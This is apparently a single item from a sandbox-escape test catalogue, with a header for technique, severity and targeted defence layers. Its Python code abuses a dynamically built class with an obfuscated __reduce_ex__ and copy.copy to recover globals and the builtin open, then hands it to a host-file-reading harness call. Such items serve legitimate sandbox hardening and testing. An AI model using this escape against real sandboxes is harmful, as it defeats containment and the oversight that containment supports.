# technique: a class whose body is a function
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import copy
import types

def trick():
    def body(space):
        space["__reduce_" + "ex__"] = lambda self, protocol: (globals, ())
    return copy.copy(types.new_class("Deputy", (), {}, body)())["__builtins__"]["open"]

read_host(trick)
